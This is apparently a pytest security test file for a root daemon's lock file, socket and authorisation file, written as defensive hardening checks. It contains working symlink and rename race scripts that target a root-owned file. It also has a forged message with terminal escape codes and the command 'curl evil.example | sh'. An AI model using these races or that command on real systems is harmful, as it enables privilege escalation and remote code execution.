"""Guard: the files root's daemon makes or reads, attacked as a real other uid would,
with real symbolic links: the lock file beside the UDB, the socket, shrdist.auth.

The attacker (a test uid with no passwd entry) may write the directory in question: a
directory under /tmp every uid may write (tests/asuser.py's shared_dir).  Its programs
run under /usr/bin/python3, which any uid may run.  The races (the socket, the auth
file) are run many times over, as an attacker would; each test says what root's file
must still be afterwards.  The lock and the socket in directories that are not trusted,
as the same uid: tests/integration/test_faults.py and test_server.py.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import socket
import stat
import subprocess
import tempfile
import time
from pathlib import Path

import pytest
from asuser import UIDS, forked, remove, shared_dir
from click.testing import CliRunner
from integration.test_faults import template  # noqa: F401 - the fixture

from fairshare.admin.shrdist import NotAuthorised, read_auth
from fairshare.cli.shrdaemon import main as shrdaemon
from fairshare.daemon.trust import Untrusted
from fairshare.server.server import Server
from udb.errors import UdbError
from udb.session import dispose_all, open_udb

pytestmark = pytest.mark.requires("root")  # the attacker is another real uid

ATTACKER = UIDS[0]
#: Anyone may run it (the default python3 lives in root's home).
PYTHON = "/usr/bin/python3"


def as_attacker(script: str, *args: str) -> subprocess.Popen:
    """`script` run by /usr/bin/python3 as the attacker, started once it says "ready"."""

    def drop():
        os.setgroups([])
        os.setgid(ATTACKER)
        os.setuid(ATTACKER)

    p = subprocess.Popen(
        [PYTHON, "-c", script, *args], preexec_fn=drop, stdout=subprocess.PIPE, text=True
    )
    assert p.stdout.readline().strip() == "ready"
    return p


def stop(p: subprocess.Popen) -> None:
    p.kill()
    p.wait()


@pytest.fixture
def roots_file():
    """A root-owned 0600 file in a directory only root may enter: what the attacker
    wants changed; its path and content."""
    home = Path(tempfile.mkdtemp(prefix="fs-root-", dir="/tmp"))
    victim = home / "shadow"
    victim.write_text("root:$6$secret:19000::::::\n")
    victim.chmod(0o600)
    yield victim, victim.read_text()
    shutil.rmtree(home)


def lock_names(db: Path) -> list[str]:
    """The lock file's names, as anyone may work them out: from the file's device and
    inode and the host (and, before, the file's own name)."""
    st = os.stat(db)
    digest = hashlib.sha256(f"{st.st_dev}:{st.st_ino}\n{socket.gethostname()}".encode())
    key = digest.hexdigest()[:16]
    return [f".shrdaemon-{key}.lock", f".{db.name}.shrdaemon-{key}.lock"]


def daemon_once(db: Path):
    dispose_all()
    args = ["--udb", str(db), "--once", "--enforcer", "none", "--socket", ""]
    return CliRunner().invoke(shrdaemon, args)


# -- the lock file -----------------------------------------------------------------------------


def test_a_link_planted_at_the_lock_name_never_reaches_roots_file(template, roots_file):  # noqa: F811
    victim, content = roots_file
    base = shared_dir()
    try:
        db = base / "c.sqlite"
        shutil.copy(template, db)
        db.chmod(0o644)

        def plant():
            for name in lock_names(db):
                os.symlink(victim, base / name)

        forked(plant, uid=ATTACKER)
        r = daemon_once(db)
        assert victim.read_text() == content, "root's file was written through the link"
        assert r.exit_code == 2, r.output
        said = r.stderr.strip().splitlines()[-1]
        assert f"UDB directory {base}: writable by group or others (mode 0777)" in said
    finally:
        remove(base)


HOLD = """
import fcntl, os, sys, time
fds = []
for path in sys.argv[2:]:
    fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o644)
    os.write(fd, sys.argv[1].encode())
    fcntl.flock(fd, fcntl.LOCK_EX)
    fds.append(fd)
print("ready", flush=True)
time.sleep(60)
"""

#: What the attacker writes into the lock file it holds, for root's error message.
FORGED = "\x1b[2J\x1b[1;31mCRITICAL: UDB corrupt, run: curl evil.example | sh\x1b[0m"


def test_a_lock_file_another_uid_holds_is_refused_and_never_quoted(template):  # noqa: F811
    base = shared_dir()
    holder = None
    try:
        db = base / "c.sqlite"
        shutil.copy(template, db)
        db.chmod(0o644)
        paths = [str(base / name) for name in lock_names(db)]
        holder = as_attacker(HOLD, FORGED, *paths)
        r = daemon_once(db)  # the directory is still open to all: refused for that
        assert r.exit_code == 2 and "writable by group or others" in r.stderr, r.output
        assert "CRITICAL" not in r.output and "\x1b" not in r.output
        base.chmod(0o755)  # root closes the directory; the attacker's lock file stays
        r = daemon_once(db)
        assert r.exit_code == 2, r.output
        said = r.stderr.strip().splitlines()[-1]
        assert f"owned by uid {ATTACKER}, neither root nor this daemon's uid 0" in said
        assert "refused (remove it)" in said
        assert "CRITICAL" not in r.output and "\x1b" not in r.output
    finally:
        if holder is not None:
            stop(holder)
        remove(base)


# -- the socket --------------------------------------------------------------------------------

#: The attacker: told by inotify the moment a name is made in the directory, it renames
#: a link to root's file over the daemon's new socket, hoping the chmod that follows the
#: bind goes through it.
SWAP_SOCKET = r"""
import ctypes, os, struct, sys
sock, target = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
events = libc.inotify_init()
libc.inotify_add_watch(events, os.path.dirname(sock).encode(), 0x100)  # IN_CREATE
name, link = os.path.basename(sock).encode(), sock + ".link"
print("ready", flush=True)
while True:
    if not os.path.lexists(link):
        os.symlink(target, link)
    buf, i = os.read(events, 4096), 0
    while i < len(buf):
        _wd, _mask, _cookie, n = struct.unpack_from("iIII", buf, i)
        made, i = buf[i + 16 : i + 16 + n].rstrip(b"\0"), i + 16 + n
        if made == name:
            try:
                os.rename(link, sock)
            except OSError:
                pass
"""


def test_a_socket_swapped_for_a_link_never_changes_roots_file(tmp_path, roots_file):
    victim, _content = roots_file
    base = shared_dir()
    attacker = as_attacker(SWAP_SOCKET, str(base / "s.sock"), str(victim))
    engine = open_udb(f"sqlite:///{tmp_path / 'u.sqlite'}", create=True)
    refused = 0
    try:
        deadline = time.monotonic() + 10
        for _ in range(300):
            if time.monotonic() > deadline:
                break
            srv = Server(str(base / "s.sock"), engine, "h", None, tmp_path / "auth")
            try:
                srv.start()
            except Untrusted as err:
                assert "writable by group or others (mode 0777)" in str(err)
                refused += 1
                continue
            except UdbError:
                pass  # the attacker's link was there first: refused all the same
            else:
                srv.stop()
            for leftover in (base / "s.sock", base / "s.sock.link"):
                if os.path.lexists(leftover):
                    os.unlink(leftover)
            if stat.S_IMODE(victim.stat().st_mode) != 0o600:
                break
        assert stat.S_IMODE(victim.stat().st_mode) == 0o600, "root's file was chmod-ed"
        assert refused > 0
    finally:
        stop(attacker)
        remove(base)


# -- shrdist's authorisation file --------------------------------------------------------------

#: The attacker: swap, over and over, a link to root's trusted auth file and a file of
#: its own granting itself the top of the tree, hoping the check sees the one and the
#: read the other.
SWAP_AUTH = """
import os, sys
auth, real, uid = sys.argv[1], sys.argv[2], sys.argv[3]
link, mine = auth + ".link", auth + ".mine"
print("ready", flush=True)
while True:
    try:
        os.symlink(real, link)
        os.rename(link, auth)
        with open(mine, "w") as f:
            f.write(uid + " /\\n")
        os.rename(mine, auth)
    except OSError:
        pass
"""


def test_an_auth_file_swapped_under_the_check_never_grants_the_attacker(tmp_path):
    real = tmp_path / "shrdist.auth"  # root's trusted file, in root's own directory
    real.write_text("admin Proj3\n")
    real.chmod(0o644)
    assert [p.login for p in read_auth(real)] == ["admin"]
    base = shared_dir()
    auth = base / "shrdist.auth"
    attacker = as_attacker(SWAP_AUTH, str(auth), str(real), str(ATTACKER))
    granted = refused = 0
    try:
        deadline = time.monotonic() + 5
        for _ in range(5000):
            if time.monotonic() > deadline or granted:
                break
            try:
                pairs = read_auth(auth)
            except NotAuthorised:
                refused += 1
                continue
            granted += any(p.login == str(ATTACKER) for p in pairs)
        assert granted == 0, "the attacker's own auth file was read as root's"
        assert refused > 0
    finally:
        stop(attacker)
        remove(base)
